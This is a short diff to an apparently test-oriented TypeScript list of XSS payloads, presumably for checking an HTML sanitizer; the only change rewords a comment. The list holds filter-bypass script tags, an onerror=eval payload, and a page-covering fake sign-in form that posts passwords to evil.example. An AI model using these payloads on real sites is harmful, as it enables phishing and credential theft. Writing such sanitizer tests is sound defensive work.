@@ -39,7 +39,7 @@ export const XSS_PAYLOADS: readonly string[] = [
   `&lt;script&gt;${FLAG}&lt;/script&gt;`,
   `<scr<script>ipt>${FLAG}</scr</script>ipt>`,
   `<img src=x:alert(1) onerror=eval(src)>`,
-  // Issue 12: no script, but a page-covering fake sign-in that posts to another site,
+  // No script, but a page-covering fake sign-in that posts to another site,
   // and links and images that look relative while leaving the site.
   `<div style="position:fixed;inset:0;z-index:9999;background:#fff"><form action="https://evil.example/collect"><label>Password <input type="password" name="p"></label><button>Sign in</button></form></div>`,
   `<a href="//evil.example/phish">protocol-relative</a>`,
